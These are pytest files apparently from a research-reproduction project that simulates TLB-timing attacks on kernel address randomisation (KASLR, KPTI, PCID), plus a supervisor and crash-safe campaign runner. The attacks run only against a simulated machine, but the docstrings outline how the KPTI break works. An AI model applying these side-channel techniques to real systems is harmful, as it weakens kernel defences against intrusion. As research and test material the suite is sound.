        fine = core.timer_resolution
        core.clock.advance(200_000)
        core.chaos_poll()
        log = _event_log(machine)
        assert log and log[0]["kind"] == "timer-flip"
        assert core.timer_resolution in (fine, 32)

    def test_migration_rescales_noise_sigma(self):
        profile = ChaosProfile("test-mig", migration_period=5_000,
                               migration_sigma_factors=(2.5,))
        machine = Machine.linux(seed=35, chaos=profile)
        base_sigma = machine.chaos._base_sigma
        machine.core.clock.advance(100_000)
        machine.core.chaos_poll()
        assert machine.core.noise.sigma == base_sigma * 2.5


class TestLogAccess:
    def test_mark_and_events_since(self):
        machine = Machine.linux(seed=40, chaos="hostile")
        runtime = machine.chaos
        mark = runtime.mark()
        assert runtime.events_since(mark) == []
        machine.core.clock.advance(2_000_000)
        machine.core.chaos_poll()
        fired = runtime.events_since(mark)
        assert fired and fired == runtime.log[mark:]

    def test_runtime_requires_a_profile(self):
        with pytest.raises(ValueError):
            ChaosRuntime(None)
