"""The attack supervisor: verdicts, retries, budgets, the acceptance bar."""

import pytest

from repro.attacks.supervisor import (
    ABSTAIN,
    FAILED,
    FOUND,
    AttackSupervisor,
    SUPERVISED_ATTACKS,
    Verdict,
    supervise,
)
from repro.errors import AttackError, CalibrationError, ProbeBudgetExceeded
from repro.machine import Machine


class TestAcceptanceCriterion:
    def test_kaslr_under_default_chaos_nine_of_ten_seeds(self):
        """The PR's headline bar: >= 9/10 seeds recover the true base
        under migration + DVFS + neighbour bursts, <= 3 retries each."""
        correct = 0
        for seed in range(10):
            machine = Machine.linux(seed=seed, chaos="default", kpti=False)
            verdict = supervise(machine, "kaslr", batched=True)
            assert verdict.retries <= 3
            assert verdict.status in (FOUND, ABSTAIN, FAILED)
            assert verdict.disturbances  # log populated
            if verdict.found and verdict.value == machine.kernel.base:
                correct += 1
        assert correct >= 9

    def test_no_disturbance_surfaces_as_an_exception(self):
        for profile in ("default", "hostile", "rerandomizing"):
            machine = Machine.linux(seed=3, chaos=profile, kpti=False)
            verdict = supervise(machine, "kaslr", batched=True)
            assert isinstance(verdict, Verdict)
            assert verdict.status in (FOUND, ABSTAIN, FAILED)


class TestVerdictShape:
    def test_as_dict_round_trip(self):
        machine = Machine.linux(seed=1, chaos="default", kpti=False)
        verdict = supervise(machine, "kaslr", batched=True)
        record = verdict.as_dict()
        for key in ("attack", "status", "value", "confidence", "retries",
                    "attempts", "disturbances", "probes_spent",
                    "elapsed_ms"):
            assert key in record
        assert record["attack"] == "kaslr"
        if verdict.value is not None:
            assert record["value"].startswith("0x")
        assert all("outcome" in a for a in record["attempts"])

    def test_without_chaos_the_supervisor_still_works(self):
        machine = Machine.linux(seed=2, kpti=False)
        verdict = supervise(machine, "kaslr", batched=True)
        assert verdict.found
        assert verdict.value == machine.kernel.base
        assert verdict.disturbances == []
        assert verdict.retries == 0

    def test_unknown_attack_rejected(self):
        machine = Machine.linux(seed=0)
        with pytest.raises(AttackError):
            supervise(machine, "rowhammer")

    def test_supervised_attacks_registry(self):
        assert set(SUPERVISED_ATTACKS) == {
            "kaslr", "kpti", "modules", "windows", "userspace", "cloud",
            "sgx", "fingerprint",
        }


class TestDeterminism:
    @pytest.mark.parametrize("batched", [True, False])
    def test_same_seed_same_verdict_and_clock(self, batched):
        outcomes = []
        for _ in range(2):
            machine = Machine.linux(seed=6, chaos="default", kpti=False)
            verdict = supervise(machine, "kaslr", batched=batched)
            outcomes.append((verdict.as_dict(), machine.clock.cycles))
        assert outcomes[0] == outcomes[1]

    def test_hostile_profile_deterministic_too(self):
        outcomes = []
        for _ in range(2):
            machine = Machine.linux(seed=9, chaos="hostile", kpti=False)
            verdict = supervise(machine, "kaslr", batched=True)
            outcomes.append((verdict.as_dict(), machine.clock.cycles))
        assert outcomes[0] == outcomes[1]


class TestFeedbackMechanisms:
    def test_calibration_rejected_when_mean_is_implausible(self):
        machine = Machine.linux(seed=10)
        machine.core.dvfs_scale = 6.0  # absurd frequency regime
        supervisor = AttackSupervisor(machine)
        with pytest.raises(CalibrationError):
            supervisor.checked_calibration()

    def test_drift_detected_after_a_regime_change(self):
        machine = Machine.linux(seed=11)
        supervisor = AttackSupervisor(machine)
        calibration = supervisor.checked_calibration()
        machine.core.dvfs_scale = 1.5
        with pytest.raises(CalibrationError):
            supervisor.check_drift(calibration)

    def test_probe_budget_becomes_a_failed_verdict(self):
        machine = Machine.linux(seed=12, chaos="default", kpti=False)
        verdict = supervise(machine, "kaslr", probe_budget=100)
        assert verdict.status == FAILED
        assert verdict.attempts[-1].outcome == "budget-exceeded"
        assert verdict.probes_spent > 100

    def test_budget_exception_carries_spending(self):
        machine = Machine.linux(seed=13)
        supervisor = AttackSupervisor(machine, probe_budget=10)
        with pytest.raises(ProbeBudgetExceeded) as info:
            supervisor.charge_probes(50)
        assert info.value.probes_spent == 50

    def test_rerandomization_aborts_and_retries(self):
        machine = Machine.linux(seed=4, chaos="rerandomizing", kpti=False)
        verdict = supervise(machine, "kaslr", batched=True)
        outcomes = [a.outcome for a in verdict.attempts]
        assert "rerandomized" in outcomes
        assert verdict.found
        assert verdict.value == machine.kernel.base

    def test_retries_are_bounded(self):
        machine = Machine.linux(seed=5, chaos="rerandomizing", kpti=False)
        verdict = supervise(machine, "kaslr", max_retries=1, batched=True)
        assert len(verdict.attempts) <= 2


class TestOtherAttacks:
    def test_kpti_supervised_under_chaos(self):
        machine = Machine.linux(seed=2, chaos="default", kpti=True)
        verdict = supervise(machine, "kpti", batched=True)
        assert verdict.found
        assert verdict.value == machine.kernel.base

    def test_modules_supervised_under_chaos(self):
        machine = Machine.linux(seed=11, chaos="default", kpti=False)
        verdict = supervise(machine, "modules", batched=True)
        assert verdict.found
        truth = machine.kernel.module_map
        assert verdict.value
        for name, address in verdict.value.items():
            assert truth[name][0] == address

    def test_windows_supervised_under_chaos(self):
        machine = Machine.windows(seed=2, chaos="default")
        verdict = supervise(machine, "windows", batched=True)
        assert verdict.found
        assert verdict.value == machine.kernel.base

    def test_windows_attack_needs_windows(self):
        machine = Machine.linux(seed=0)
        verdict = supervise(machine, "windows")
        assert verdict.status == FAILED
        assert verdict.attempts[-1].outcome == "error"

    def test_amd_variant_routes_through_vote_confidence(self):
        machine = Machine.linux(cpu="ryzen5-5600X", seed=3, chaos="quiet")
        verdict = supervise(machine, "kaslr", batched=True)
        assert verdict.found
        assert verdict.value == machine.kernel.base
