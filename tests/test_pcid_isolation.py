"""PCID-tagged TLB isolation: why KPTI(+PCID) kills the TLB attack."""

import pytest

from repro.machine import Machine
from repro.mmu.address import PAGE_SIZE
from repro.mmu.flags import PageFlags
from repro.mmu.pagetable import Translation
from repro.mmu.tlb import TLBEntry, TwoLevelTLB


class TestTaggedLookups:
    def test_same_tag_hits(self):
        tlb = TwoLevelTLB()
        tlb.active_asid = 3
        translation = Translation(0x1000, 0x5, PageFlags.PRESENT, PAGE_SIZE, 3)
        tlb.fill(translation)
        entry, __ = tlb.lookup(0x1000)
        assert entry is not None

    def test_cross_tag_misses(self):
        tlb = TwoLevelTLB()
        tlb.active_asid = 1
        translation = Translation(0x1000, 0x5, PageFlags.PRESENT, PAGE_SIZE, 3)
        tlb.fill(translation)
        tlb.active_asid = 0
        entry, __ = tlb.lookup(0x1000)
        assert entry is None
        assert tlb.holds(0x1000, asid=1)
        assert not tlb.holds(0x1000, asid=0)

    def test_global_entries_cross_tags(self):
        tlb = TwoLevelTLB()
        tlb.active_asid = 1
        translation = Translation(0x1000, 0x5, PageFlags.PRESENT, PAGE_SIZE, 3)
        tlb.fill(translation, is_global=True)
        tlb.active_asid = 0
        entry, __ = tlb.lookup(0x1000)
        assert entry is not None

    def test_legacy_untagged_lookup_ignores_tags(self):
        from repro.mmu.tlb import TLB

        tlb = TLB(entries=8, ways=2)
        tlb.fill(TLBEntry(5, 1, PageFlags.PRESENT, PAGE_SIZE, asid=7))
        assert tlb.lookup(5, PAGE_SIZE) is not None          # asid=None
        assert tlb.lookup(5, PAGE_SIZE, asid=7) is not None
        assert tlb.lookup(5, PAGE_SIZE, asid=2) is None


class TestKptiPcidIsolation:
    def test_machine_defaults(self):
        kpti_machine = Machine.linux(cpu="i7-6600U", seed=1)  # KPTI on
        assert kpti_machine.core.kernel_asid == 1
        plain = Machine.linux(seed=1)                          # KPTI off
        assert plain.core.kernel_asid is None

    def test_kernel_touch_tagged_under_pcid(self):
        machine = Machine.linux(cpu="i7-6600U", seed=2, kpti=True)
        core = machine.core
        trampoline = machine.kernel.base + machine.kernel.trampoline_offset
        machine.kernel.syscall(core)
        # the kernel's entries live under the kernel tag, invisible to
        # the attacker's user-tag probes
        assert core.tlb.holds(trampoline, asid=1)
        assert not core.tlb.holds(trampoline, asid=0)

    def test_nopcid_kernel_exit_flushes(self):
        machine = Machine.linux(cpu="i7-6600U", seed=3, kpti=True,
                                pcid=False)
        core = machine.core
        trampoline = machine.kernel.base + machine.kernel.trampoline_offset
        machine.kernel.syscall(core)
        assert not core.tlb.holds(trampoline, asid=0)
        assert not core.tlb.holds(trampoline, asid=1)

    def test_tlb_attack_dead_under_kpti_pcid(self):
        """The victim's kernel activity leaves nothing user-observable."""
        machine = Machine.linux(cpu="i7-6600U", seed=4, kpti=True)
        core = machine.core
        trampoline = machine.kernel.base + machine.kernel.trampoline_offset
        core.evict_translation_caches()
        machine.kernel.syscall(core)
        # single-probe (TLB attack measurement): the probe walks the USER
        # table, where only the trampoline is even mapped -- and the probe
        # itself must miss because the kernel's entry is tagged
        first = core.masked_load(trampoline)
        assert first.walks == 1  # miss: no user-visible entry existed

    def test_p2_trampoline_break_survives_pcid(self):
        """The paper's KPTI break needs no victim TLB state: the probe
        itself creates the user-tagged entry it times."""
        from repro.attacks.kpti_break import break_kaslr_kpti

        machine = Machine.linux(cpu="i7-6600U", seed=5, kpti=True)
        result = break_kaslr_kpti(machine)
        assert result.base == machine.kernel.base

    def test_non_kpti_kernel_state_still_observable(self):
        """Control: without KPTI the shared tag leaks, as in Figure 6."""
        machine = Machine.linux(seed=6)  # Alder Lake, no KPTI
        core = machine.core
        target = machine.kernel.functions["sys_read"]
        core.evict_translation_caches()
        machine.kernel.syscall(core, "sys_read")
        assert core.tlb.holds(target)
        second = core.masked_load(target)
        assert second.walks == 0  # TLB hit: the leak
