"""The crash-safe campaign runner: journal, pool, runner, CLI.

The heart of this file is crash behavior: torn journal tails, corrupted
records, SIGKILLed workers, SIGSTOPped (frozen) workers, hung
scenarios, and a parent killed mid-campaign that must resume to a
byte-identical result store.
"""

import json
import os
import pathlib
import signal
import subprocess
import sys
import time

import pytest

from repro.attacks.supervisor import ABSTAIN, FOUND, apply_degradation
from repro.campaign import journal as wal
from repro.campaign import (
    CampaignJournal,
    CampaignRunner,
    SupervisedPool,
    fold_records,
    plan_units,
    replay,
)
from repro.campaign.pool import FAILED, OK, SKIPPED
from repro.cli import main
from repro.errors import CampaignError, JournalConflict, JournalCorrupt
from repro.scenarios import ScenarioResult, run_suite

SRC_DIR = str(pathlib.Path(__file__).resolve().parent.parent / "src")


# -- module-level pool workers (must be picklable) -----------------------------


def _flaky_worker(payload):
    """Dispatch on the payload so one worker covers every failure mode."""
    kind = payload["kind"]
    if kind == "square":
        return payload["n"] * payload["n"]
    if kind == "hang":
        time.sleep(600.0)
    if kind == "freeze":
        os.kill(os.getpid(), signal.SIGSTOP)
    if kind == "die-once":
        sentinel = payload["sentinel"]
        if not os.path.exists(sentinel):
            with open(sentinel, "w"):
                pass
            os.kill(os.getpid(), signal.SIGKILL)
        return "survived"
    if kind == "die-always":
        os.kill(os.getpid(), signal.SIGKILL)
    raise ValueError(kind)


# -- scenario fixtures ---------------------------------------------------------


def _write_scenario(directory, name, seed, attack=None):
    attack = attack or {"kind": "kaslr", "trials": 4}
    spec = {
        "name": name,
        "machine": {"os": "linux", "seed": seed, "chaos": "default"},
        "attack": attack,
        "expect": {},
    }
    path = directory / (name + ".json")
    path.write_text(json.dumps(spec))
    return path


@pytest.fixture
def scenario_dir(tmp_path):
    directory = tmp_path / "scenarios"
    directory.mkdir()
    for index, name in enumerate(("alpha", "bravo", "charlie")):
        _write_scenario(directory, name, seed=20 + index)
    return directory


# -- the write-ahead journal ---------------------------------------------------


class TestJournal:
    def test_append_replay_roundtrip(self, tmp_path):
        path = tmp_path / "j.jsonl"
        with CampaignJournal(path) as journal:
            journal.open()
            journal.append(wal.UNIT_START, unit="u", attempt=0)
            journal.append(wal.UNIT_FINISH, unit="u", attempt=0,
                           result={"passed": True})
        records, good_bytes = replay(path)
        assert [r["type"] for r in records] == [
            wal.UNIT_START, wal.UNIT_FINISH,
        ]
        assert good_bytes == path.stat().st_size
        assert all(r["crc"] == wal.record_crc(r) for r in records)

    def test_torn_tail_is_truncated_and_append_continues(self, tmp_path):
        path = tmp_path / "j.jsonl"
        with CampaignJournal(path) as journal:
            journal.open()
            journal.append(wal.UNIT_START, unit="u", attempt=0)
            journal.append(wal.UNIT_FINISH, unit="u", attempt=0,
                           result={"passed": True})
        intact_size = path.stat().st_size
        with open(path, "ab") as handle:
            handle.write(b'{"type":"unit-start","unit":"torn"')

        with CampaignJournal(path) as journal:
            records = journal.open()
            assert len(records) == 2
            assert path.stat().st_size == intact_size
            journal.append(wal.UNIT_SKIP, unit="v", reason="deadline")
        records, __ = replay(path)
        assert [r["type"] for r in records] == [
            wal.UNIT_START, wal.UNIT_FINISH, wal.UNIT_SKIP,
        ]

    def test_corrupted_checksum_mid_file_refuses_resume(self, tmp_path):
        path = tmp_path / "j.jsonl"
        with CampaignJournal(path) as journal:
            journal.open()
            journal.append(wal.UNIT_START, unit="aaaa", attempt=0)
            journal.append(wal.UNIT_FINISH, unit="aaaa", attempt=0,
                           result={"passed": True})
        lines = path.read_bytes().splitlines(keepends=True)
        lines[0] = lines[0].replace(b"aaaa", b"aaab")  # bit rot, crc stale
        path.write_bytes(b"".join(lines))

        with pytest.raises(JournalCorrupt) as excinfo:
            replay(path)
        assert excinfo.value.line_number == 1
        with pytest.raises(JournalCorrupt):
            CampaignJournal(path).open()

    def test_duplicate_identical_finish_deduped(self):
        records = [
            {"type": wal.UNIT_START, "unit": "u", "attempt": 0},
            {"type": wal.UNIT_FINISH, "unit": "u", "attempt": 0,
             "result": {"passed": True}},
            {"type": wal.UNIT_FINISH, "unit": "u", "attempt": 1,
             "result": {"passed": True}},
            {"type": wal.UNIT_SKIP, "unit": "u", "reason": "deadline"},
        ]
        __, units = fold_records(records)
        assert units["u"]["status"] == "done"
        assert units["u"]["result"] == {"passed": True}

    def test_conflicting_duplicate_finish_raises(self):
        records = [
            {"type": wal.UNIT_START, "unit": "u", "attempt": 0},
            {"type": wal.UNIT_FINISH, "unit": "u", "attempt": 0,
             "result": {"passed": True}},
            {"type": wal.UNIT_FINISH, "unit": "u", "attempt": 1,
             "result": {"passed": False}},
        ]
        with pytest.raises(JournalConflict) as excinfo:
            fold_records(records)
        assert excinfo.value.unit == "u"

    def test_append_requires_open(self, tmp_path):
        journal = CampaignJournal(tmp_path / "j.jsonl")
        with pytest.raises(CampaignError):
            journal.append(wal.UNIT_START, unit="u")


# -- the supervised pool -------------------------------------------------------


class TestSupervisedPool:
    def test_plain_run(self):
        pool = SupervisedPool(jobs=2)
        units = [("u{}".format(n), {"kind": "square", "n": n})
                 for n in range(5)]
        outcomes = pool.run(units, _flaky_worker)
        assert {uid: o.value for uid, o in outcomes.items()} == {
            "u{}".format(n): n * n for n in range(5)
        }
        assert all(o.status == OK and o.attempts == 1
                   for o in outcomes.values())

    def test_watchdog_kills_hung_worker_within_bound(self):
        pool = SupervisedPool(jobs=2, watchdog_s=1.0, heartbeat_s=0.05,
                              max_retries=0, tick_s=0.05)
        start = time.monotonic()
        outcomes = pool.run(
            [("hung", {"kind": "hang"}),
             ("fine", {"kind": "square", "n": 3})],
            _flaky_worker,
        )
        assert time.monotonic() - start < 30.0  # never the 600s sleep
        assert outcomes["hung"].status == FAILED
        assert outcomes["hung"].detail == "watchdog timeout after 1s"
        assert outcomes["fine"].status == OK

    def test_stale_heartbeat_detected(self):
        pool = SupervisedPool(jobs=1, heartbeat_s=0.05, stale_after_s=0.6,
                              max_retries=0, tick_s=0.05)
        outcomes = pool.run(
            [("frozen", {"kind": "freeze"})], _flaky_worker,
        )
        assert outcomes["frozen"].status == FAILED
        assert outcomes["frozen"].detail == "heartbeat went stale"

    def test_killed_worker_charged_innocents_ride_free(self, tmp_path):
        sentinel = str(tmp_path / "sentinel")
        pool = SupervisedPool(jobs=2, max_retries=2, backoff_base_s=0.01,
                              tick_s=0.05)
        outcomes = pool.run(
            [("calm1", {"kind": "square", "n": 2}),
             ("killer", {"kind": "die-once", "sentinel": sentinel}),
             ("calm2", {"kind": "square", "n": 4})],
            _flaky_worker,
        )
        assert outcomes["killer"].status == OK
        assert outcomes["killer"].value == "survived"
        assert outcomes["killer"].attempts == 2  # charged exactly once
        for unit in ("calm1", "calm2"):
            assert outcomes[unit].status == OK
            assert outcomes[unit].attempts == 1  # never charged

    def test_retry_budget_exhaustion_is_terminal_and_deterministic(self):
        pool = SupervisedPool(jobs=1, max_retries=1, backoff_base_s=0.01,
                              tick_s=0.05)
        outcomes = pool.run(
            [("doomed", {"kind": "die-always"})], _flaky_worker,
        )
        doomed = outcomes["doomed"]
        assert doomed.status == FAILED
        assert doomed.attempts == 2  # initial try + one retry
        assert doomed.detail == \
            "worker process died before returning a result"

    def test_deadline_skips_queued_units(self):
        pool = SupervisedPool(jobs=1)
        outcomes = pool.run(
            [("skipped", {"kind": "square", "n": 1})],
            _flaky_worker, deadline=time.monotonic() - 1.0,
        )
        assert outcomes["skipped"].status == SKIPPED
        assert outcomes["skipped"].detail == "deadline"


# -- run_suite resilience (timeout + lost workers) -----------------------------


class TestSuiteResilience:
    def test_timeout_per_scenario_kills_hung_scenario(self, scenario_dir):
        _write_scenario(scenario_dir, "stuck", seed=1,
                        attack={"kind": "hang", "seconds": 600})
        start = time.monotonic()
        results = run_suite(scenario_dir, jobs=2, timeout_per_scenario=2.0)
        assert time.monotonic() - start < 60.0
        by_name = {r.name: r for r in results}
        assert not by_name["stuck"].passed
        assert "watchdog timeout" in by_name["stuck"].violations[0]
        for name in ("alpha", "bravo", "charlie"):
            assert by_name[name].passed, by_name[name].violations

    def test_suite_survives_sigkilled_worker(self, scenario_dir):
        _write_scenario(
            scenario_dir, "zkilled", seed=1,
            attack={"kind": "kill-self"},  # no sentinel: dies every try
        )
        results = run_suite(scenario_dir, jobs=2)
        by_name = {r.name: r for r in results}
        assert not by_name["zkilled"].passed
        assert "scenario runner lost" in by_name["zkilled"].violations[0]
        for name in ("alpha", "bravo", "charlie"):
            assert by_name[name].passed, by_name[name].violations


# -- degradation rules ---------------------------------------------------------


class TestDegradation:
    def test_found_below_bar_becomes_abstain(self):
        status, confidence = apply_degradation(FOUND, 0.8)
        assert (status, confidence) == (ABSTAIN, 0.4)

    def test_found_above_bar_stays_found(self):
        status, confidence = apply_degradation(FOUND, 1.0)
        assert (status, confidence) == (FOUND, 0.5)

    def test_scenario_result_degrade_roundtrips(self):
        result = ScenarioResult(
            "late", True,
            {"status": FOUND, "confidence": 0.9, "correct": True}, [],
        )
        data = result.degrade("deadline").as_dict()
        assert data["degraded"] == "deadline"
        assert data["observations"]["confidence"] == pytest.approx(0.45)
        assert data["observations"]["status"] == ABSTAIN
        assert ScenarioResult.from_dict(data).as_dict() == data


# -- the campaign runner -------------------------------------------------------


class TestCampaignRunner:
    def test_plan_units_records_digests_and_seeds(self, scenario_dir):
        units = plan_units(scenario_dir)
        assert [u["id"] for u in units] == ["alpha", "bravo", "charlie"]
        assert [u["seed"] for u in units] == [20, 21, 22]
        assert all(len(u["sha256"]) == 16 for u in units)
        assert all(u["chaos"] == "default" for u in units)

    def test_plan_units_empty_dir_raises(self, tmp_path):
        with pytest.raises(CampaignError):
            plan_units(tmp_path)

    def test_run_writes_store_and_journal(self, scenario_dir, tmp_path):
        journal = tmp_path / "c.jsonl"
        runner = CampaignRunner(journal, directory=scenario_dir)
        report = runner.run()
        assert report.ok
        assert report.summary == {
            "passed": 3, "failed": 0, "skipped": 0, "degraded": 0,
        }
        store = json.loads(report.store_path.read_text())
        assert store["schema"] == "repro-campaign-result/v1"
        assert [u["id"] for u in store["units"]] == [
            "alpha", "bravo", "charlie",
        ]
        assert all(u["status"] == "PASS" and u["chaos_digest"]
                   for u in store["units"])
        meta, folded = CampaignRunner(journal).status()
        assert meta["finished"]
        assert all(folded[u]["status"] == "done" for u in folded)

    def test_existing_journal_requires_resume(self, scenario_dir, tmp_path):
        journal = tmp_path / "c.jsonl"
        CampaignRunner(journal, directory=scenario_dir).run()
        with pytest.raises(CampaignError):
            CampaignRunner(journal, directory=scenario_dir).run()

    def test_resume_reexecutes_nothing_when_finished(self, scenario_dir,
                                                     tmp_path):
        journal = tmp_path / "c.jsonl"
        first = CampaignRunner(journal, directory=scenario_dir).run()
        size = journal.stat().st_size
        second = CampaignRunner(journal).run(resume=True)
        assert journal.stat().st_size == size  # nothing re-journaled
        strip = ("generated_at", "wall_elapsed_s")
        assert {k: v for k, v in first.store.items() if k not in strip} \
            == {k: v for k, v in second.store.items() if k not in strip}

    def test_resume_refuses_changed_scenario(self, scenario_dir, tmp_path):
        journal = tmp_path / "c.jsonl"
        CampaignRunner(journal, directory=scenario_dir).run()
        _write_scenario(scenario_dir, "alpha", seed=99)
        with pytest.raises(CampaignError, match="digest mismatch"):
            CampaignRunner(journal).run(resume=True)

    def test_deadline_zero_skips_everything(self, scenario_dir, tmp_path):
        journal = tmp_path / "c.jsonl"
        runner = CampaignRunner(journal, directory=scenario_dir,
                                deadline_s=0.0)
        report = runner.run()
        assert not report.ok
        assert report.summary["skipped"] == 3
        assert all(u["status"] == "SKIPPED" and u["reason"] == "deadline"
                   for u in report.store["units"])

    def test_worker_killed_mid_campaign_recovers(self, scenario_dir,
                                                 tmp_path):
        sentinel = tmp_path / "sentinel"
        _write_scenario(
            scenario_dir, "dies", seed=7,
            attack={"kind": "kill-self", "sentinel": str(sentinel)},
        )
        journal = tmp_path / "c.jsonl"
        report = CampaignRunner(journal, directory=scenario_dir,
                                jobs=2).run()
        assert report.ok, report.store["units"]
        records, __ = replay(journal)
        retries = [r for r in records if r["type"] == wal.UNIT_RETRY]
        assert [r["unit"] for r in retries] == ["dies"]
        assert retries[0]["reason"] == \
            "worker process died before returning a result"


# -- CLI + kill-resume determinism ---------------------------------------------


class TestCampaignCli:
    def test_run_and_status_verbs(self, scenario_dir, tmp_path, capsys):
        journal = tmp_path / "c.jsonl"
        assert main(["campaign", "run", str(scenario_dir),
                     "--journal", str(journal)]) == 0
        out = capsys.readouterr().out
        assert "3 passed, 0 failed, 0 skipped" in out
        assert main(["campaign", "status", str(journal)]) == 0

    def test_resume_verb_needs_a_journal(self, tmp_path, capsys):
        code = main(["campaign", "resume", str(tmp_path / "nope.jsonl")])
        assert code != 0

    def _campaign_cmd(self, scenario_dir, journal, verb="run"):
        cmd = [sys.executable, "-m", "repro", "campaign"]
        if verb == "run":
            cmd += ["run", str(scenario_dir), "--journal", str(journal)]
        else:
            cmd += ["resume", str(journal)]
        return cmd + ["--jobs", "1"]

    def _env(self):
        env = dict(os.environ)
        env["PYTHONPATH"] = SRC_DIR
        return env

    def _strip(self, store_path):
        store = json.loads(pathlib.Path(store_path).read_text())
        store.pop("generated_at")
        store.pop("wall_elapsed_s")
        return store

    def test_sigkill_parent_then_resume_is_deterministic(
            self, scenario_dir, tmp_path):
        clean = tmp_path / "clean.jsonl"
        subprocess.run(
            self._campaign_cmd(scenario_dir, clean), env=self._env(),
            check=True, capture_output=True, timeout=300,
        )

        killed = tmp_path / "killed.jsonl"
        process = subprocess.Popen(
            self._campaign_cmd(scenario_dir, killed), env=self._env(),
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        try:
            deadline = time.monotonic() + 120.0
            while time.monotonic() < deadline:
                if process.poll() is not None:
                    break  # finished before we could kill it; still valid
                if killed.exists() \
                        and b"unit-finish" in killed.read_bytes():
                    process.kill()
                    break
                time.sleep(0.02)
            process.wait(timeout=60)
        finally:
            if process.poll() is None:
                process.kill()
                process.wait()

        subprocess.run(
            self._campaign_cmd(scenario_dir, killed, verb="resume"),
            env=self._env(), check=True, capture_output=True, timeout=300,
        )
        clean_store = self._strip(tmp_path / "clean.results.json")
        killed_store = self._strip(tmp_path / "killed.results.json")
        assert clean_store == killed_store
