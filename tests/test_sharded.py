"""The sharded campaign fabric: partition, steal, quarantine, merge.

The contract under test mirrors the single-pool runner's -- kill -9
anything, resume, get byte-identical results -- with the new failure
surface of N fault domains: a shard dying on a dead disk must be
quarantined and its units stolen; duplicate finishes from steal races
must dedup (identical) or raise (conflicting); a corrupt shard journal
must route through `repro campaign fsck` and come back resumable.
"""

import json
import os
import pathlib
import signal
import subprocess
import sys
import time

import pytest

from repro.campaign import journal as wal
from repro.campaign import (
    CampaignRunner,
    ShardedCampaignRunner,
    SupervisedPool,
    fold_records,
    fsck_journal,
    replay,
)
from repro.campaign.coordinator import campaign_status, merged_records
from repro.campaign.shard import shard_journal_path, shard_of
from repro.cli import main
from repro.errors import CampaignError, JournalCorrupt
from repro.obs.schema import load_trace

SRC_DIR = str(pathlib.Path(__file__).resolve().parent.parent / "src")


def _write_scenario(directory, name, seed):
    spec = {
        "name": name,
        "machine": {"os": "linux", "seed": seed, "chaos": "default"},
        "attack": {"kind": "kaslr", "params": {"trials": 1}},
        "expect": {},
    }
    (directory / (name + ".json")).write_text(json.dumps(spec))


@pytest.fixture
def scenario_dir(tmp_path):
    directory = tmp_path / "scenarios"
    directory.mkdir()
    for index in range(8):
        _write_scenario(directory, "unit-{:02d}".format(index),
                        seed=50 + index)
    return directory


def _strip(store):
    store = dict(store)
    store.pop("generated_at")
    store.pop("wall_elapsed_s")
    return store


# -- partitioning --------------------------------------------------------------


class TestPartition:
    def test_shard_of_is_stable_and_covers(self):
        ids = ["unit-{:03d}".format(i) for i in range(200)]
        first = [shard_of(uid, 4) for uid in ids]
        assert first == [shard_of(uid, 4) for uid in ids]
        assert set(first) == {0, 1, 2, 3}
        assert all(shard_of(uid, 1) == 0 for uid in ids)

    def test_shard_journal_path(self):
        base = pathlib.Path("/x/c.jsonl")
        assert shard_journal_path(base, 0) == \
            pathlib.Path("/x/c.shard-0.jsonl")
        assert shard_journal_path(base, 11) == \
            pathlib.Path("/x/c.shard-11.jsonl")


# -- sharded vs single-pool determinism ----------------------------------------


class TestShardedDeterminism:
    def test_sharded_store_matches_single_pool(self, scenario_dir,
                                               tmp_path):
        sharded = ShardedCampaignRunner(
            tmp_path / "sharded.jsonl", directory=scenario_dir,
            shards=3, jobs=3, seed=7,
        ).run()
        single = CampaignRunner(
            tmp_path / "single.jsonl", directory=scenario_dir,
            jobs=3, seed=7,
        ).run()
        assert sharded.store["units"] == single.store["units"]
        assert sharded.store["summary"] == single.store["summary"]
        assert sharded.ok and single.ok

    def test_rerun_same_seed_is_byte_identical(self, scenario_dir,
                                               tmp_path):
        first = ShardedCampaignRunner(
            tmp_path / "a.jsonl", directory=scenario_dir, shards=2,
            jobs=2, seed=5,
        ).run()
        second = ShardedCampaignRunner(
            tmp_path / "b.jsonl", directory=scenario_dir, shards=2,
            jobs=2, seed=5,
        ).run()
        assert _strip(first.store) == _strip(second.store)

    def test_refuses_overwrite_without_resume(self, scenario_dir,
                                              tmp_path):
        runner = ShardedCampaignRunner(
            tmp_path / "c.jsonl", directory=scenario_dir, shards=2,
        )
        runner.run()
        with pytest.raises(CampaignError):
            ShardedCampaignRunner(
                tmp_path / "c.jsonl", directory=scenario_dir, shards=2,
            ).run()

    def test_resume_finished_campaign_is_noop_and_identical(
            self, scenario_dir, tmp_path):
        first = ShardedCampaignRunner(
            tmp_path / "c.jsonl", directory=scenario_dir, shards=2,
            seed=3,
        ).run()
        again = ShardedCampaignRunner(
            tmp_path / "c.jsonl", shards=2,
        ).run(resume=True)
        assert _strip(first.store) == _strip(again.store)


# -- quarantine + work stealing ------------------------------------------------


class TestQuarantineAndStealing:
    def test_dead_disk_shard_is_quarantined_and_stolen_from(
            self, scenario_dir, tmp_path):
        profile = {"name": "dead-0", "description": "shard 0's disk "
                   "is full from the first byte",
                   "rates": {"enospc": 1.0}, "shards": [0]}
        runner = ShardedCampaignRunner(
            tmp_path / "c.jsonl", directory=scenario_dir, shards=2,
            jobs=2, seed=3, fault_profile=profile,
            trace_path=tmp_path / "trace.jsonl",
        )
        report = runner.run()
        # every unit still completes: the survivors stole the work
        assert report.ok
        assert report.summary["passed"] == 8
        assert report.shard_states[0] == "dead"
        assert report.shard_states[1] == "done"
        assert "JournalWriteError" in report.shard_failures[0]
        assert report.steals > 0
        # steals are journaled in the coordinator journal...
        records, __ = replay(tmp_path / "c.jsonl")
        steals = [r for r in records if r["type"] == wal.STEAL]
        assert len(steals) == report.steals
        assert all(r["to_shard"] == 1 for r in steals)
        # ...and observable as typed trace events
        trace = load_trace(str(tmp_path / "trace.jsonl"))
        kinds = [r.get("kind") for r in trace if r.get("type") == "event"]
        assert kinds.count("steal") == report.steals
        assert "shard-quarantined" in kinds
        assert "fault" in kinds
        counters = [r for r in trace if r.get("type") == "metrics"][0]
        assert counters["counters"]["campaign.steals"] == report.steals
        assert counters["counters"]["campaign.faults.enospc"] >= 1

    def test_all_shards_dead_degrades_cleanly(self, scenario_dir,
                                              tmp_path):
        profile = {"name": "all-dead", "description": "x",
                   "rates": {"enospc": 1.0}}
        report = ShardedCampaignRunner(
            tmp_path / "c.jsonl", directory=scenario_dir, shards=2,
            jobs=2, fault_profile=profile,
        ).run()
        # nothing could run; the store ships INCOMPLETE units and the
        # report carries each shard's typed failure -- no exception,
        # no partial corruption
        assert not report.ok
